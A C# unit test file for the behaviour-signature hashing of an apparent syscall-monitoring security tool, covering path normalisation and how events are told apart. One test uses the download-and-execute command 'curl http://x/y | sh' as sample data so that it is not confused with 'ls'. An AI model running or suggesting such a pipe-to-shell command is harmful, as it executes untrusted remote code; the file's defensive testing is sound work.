using System.Text;
using Syscribe.Events;
using Syscribe.Inference.Verdicts;
using static Syscribe.Inference.Tests.Support.Samples;

namespace Syscribe.Inference.Tests.Verdicts;

public sealed class BehaviourSignatureTests
{
    [Theory]
    [InlineData("/etc/passwd", "/etc/passwd")]
    [InlineData("/proc/1234/status", "/proc/#/status")]
    [InlineData("/proc/1234/task/5678/comm", "/proc/#/task/#/comm")]
    [InlineData("/usr/lib/x86_64-linux-gnu/libc.so.6", "/usr/lib/x#_#-linux-gnu/**.#")]
    [InlineData("/usr/bin/python3.11", "/usr/bin/python#.#")]
    [InlineData("/tmp/tmp.Xa8dKq1bZ2", "/tmp/tmp.*")]
    [InlineData("/tmp/tmpab3k9x_z", "/tmp/tmp*_z")]
    [InlineData("/tmp/template", "/tmp/template")]
    [InlineData("/tmp/systemd-private-0f1e2d3c4b5a69788796a5b4c3d2e1f0-ntp.service-Xy3Zk9", "/tmp/systemd-private-*-ntp.service-*")]
    [InlineData("/var/lib/docker/overlay2/9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08/merged/etc", "/var/lib/docker/**")]
    [InlineData("/run/user/1000/550e8400-e29b-41d4-a716-446655440000", "/run/user/#/*")]
    [InlineData("/home/ann/MyDocuments/README.md", "/home/ann/MyDocuments/**.md")]
    [InlineData("/home/ann/.ssh/authorized_keys", "/home/ann/.ssh/authorized_keys")]
    [InlineData("/home/ann/x/y/.git/objects/ab/cd", "/home/ann/x/y/.git/objects/**")]
    [InlineData("/etc/ssl/certs/ca/one.pem", "/etc/ssl/certs/ca/one.pem")]
    [InlineData("/usr/share/doc/bash/copyright", "/usr/share/doc/**")]
    [InlineData("/usr/bin/ls", "/usr/bin/ls")]
    [InlineData("/usr/local/bin/x", "/usr/local/bin/x")]
    [InlineData("a/b/c/deeper/d.conf", "a/b/c/**.conf")]
    [InlineData("/var/log/syslog.2.gz", "/var/log/syslog.#.gz")]
    [InlineData("/dev/shm/pulse-shm-3141592653", "/dev/shm/pulse-shm-#")]
    [InlineData("/usr/decade/facade", "/usr/decade/facade")]
    [InlineData("/a/deadbeef01", "/a/*")]
    [InlineData("relative/file-20260101", "relative/file-#")]
    [InlineData("", "")]
    [InlineData("/", "/")]
    public void Accidents_of_a_path_are_removed(string path, string normal) =>
        Assert.Equal(normal, BehaviourSignature.Normalize(Encoding.UTF8.GetBytes(path)));

    [Fact]
    public void A_long_path_is_bounded() =>
        Assert.Equal(PathNormalizer.MaxBytes, BehaviourSignature.Normalize(Encoding.ASCII.GetBytes(new string('a', 10_000))).Length);

    [Fact]
    public void The_signature_of_an_event_is_the_same_for_ever() =>
        Assert.Equal("6059775a39ea01fb", BehaviourSignature.Of(Open()).ToString("x16", System.Globalization.CultureInfo.InvariantCulture));

    public static TheoryData<string, Action<SyscallEvent>> Accidents => new()
    {
        { "time", e => { e.TimeNs = 5; e.KtimeNs = 6; e.Seq = 7; e.Cpu = 1; } },
        { "node", e => e.Node = U("other") },
        { "pid", e => e.Process = e.Process! with { Pid = 9, ParentPid = 8, SessionId = 7 } },
        { "thread", e => e.ThreadId = 99 },
        { "descriptor", e => { e.Fd.Num = 17; e.Return = 17; e.Params[0] = e.Params[0] with { Value = 17 }; } },
        { "root by another name", e => e.Process = e.Process! with { UserName = U("toor") } },
        { "arguments of a running program", e => e.Process = e.Process! with { Args = [U("-v")] } },
    };

    public static TheoryData<string, Action<SyscallEvent>> Differences => new()
    {
        { "call", e => e.Type = U("openat2") },
        { "failure", e => e.Return = -13 },
        { "executable", e => e.Process = e.Process! with { ExePath = U("/usr/bin/tac") } },
        { "parent", e => e.Process = e.Process! with { Ancestors = [new Ancestor(1, U("nginx"), default, default, default)] } },
        { "path", e => e.Params[2] = e.Params[2] with { Text = U("/etc/gshadow") } },
        { "flags", e => e.Params[3] = e.Params[3] with { Resolved = U("O_RDWR|O_CLOEXEC") } },
        { "user", e => e.Process = e.Process! with { UserId = 1000 } },
        { "system user", e => e.Process = e.Process! with { UserId = 33 } },
        { "image", e => e.Process = e.Process! with { ContainerId = U("0123456789ab") } },
        { "peer", e => { e.Fd.ServerIp = Utf8.Copy([8, 8, 8, 8]); e.Fd.ServerPort = 53; } },
        { "text", e => e.Params.Add(new Param(U("type"), null, U("something else"), default)) },
    };

    [Theory]
    [MemberData(nameof(Accidents), DisableDiscoveryEnumeration = true)]
    public void An_accident_does_not_change_it(string what, Action<SyscallEvent> change) =>
        Assert.True(BehaviourSignature.Of(Open()) == BehaviourSignature.Of(Changed(change)), what);

    [Theory]
    [MemberData(nameof(Differences), DisableDiscoveryEnumeration = true)]
    public void Another_behaviour_has_another_one(string what, Action<SyscallEvent> change) =>
        Assert.True(BehaviourSignature.Of(Open()) != BehaviourSignature.Of(Changed(change)), what);

    [Fact]
    public void A_harmless_command_line_does_not_vouch_for_another()
    {
        var (list, download) = (Exec("-c", "ls"), Exec("-c", "curl http://x/y | sh"));
        Assert.NotEqual(BehaviourSignature.Of(list), BehaviourSignature.Of(download));
        Assert.Equal(BehaviourSignature.Of(Exec("sleep", "10")), BehaviourSignature.Of(Exec("sleep", "20")));
    }

    [Fact]
    public void Neighbouring_parts_do_not_run_into_each_other()
    {
        var (one, other) = (Exec("ab", "c"), Exec("a", "bc"));
        Assert.NotEqual(BehaviourSignature.Of(one), BehaviourSignature.Of(other));
    }

    [Fact]
    public void A_far_end_counts_by_class_and_well_known_port()
    {
        var public1 = Connect([203, 0, 113, 9], 443);
        Assert.Equal(public1, Connect([198, 51, 100, 7], 443));
        Assert.NotEqual(public1, Connect([203, 0, 113, 9], 4444));
        Assert.NotEqual(public1, Connect([10, 1, 2, 3], 443));
        Assert.NotEqual(Connect([127, 0, 0, 1], 443), Connect([10, 1, 2, 3], 443));
        Assert.Equal(Connect([10, 1, 2, 3], 40001), Connect([192, 168, 0, 1], 50002));
    }

    private static ulong Connect(byte[] ip, int port)
    {
        var e = new SyscallEvent { Type = U("connect"), Return = 0, HasFd = true, Process = Process() };
        e.Fd.ServerIp = Utf8.Copy(ip);
        e.Fd.ServerPort = port;
        e.Fd.Role = SocketRole.Client;
        return BehaviourSignature.Of(e);
    }

    private static SyscallEvent Exec(params string[] args) =>
        new() { Type = U("execve"), Return = 0, Process = Process("sh", "/bin/sh", args) };

    private static SyscallEvent Changed(Action<SyscallEvent> change)
    {
        var e = Open();
        change(e);
        return e;
    }
}
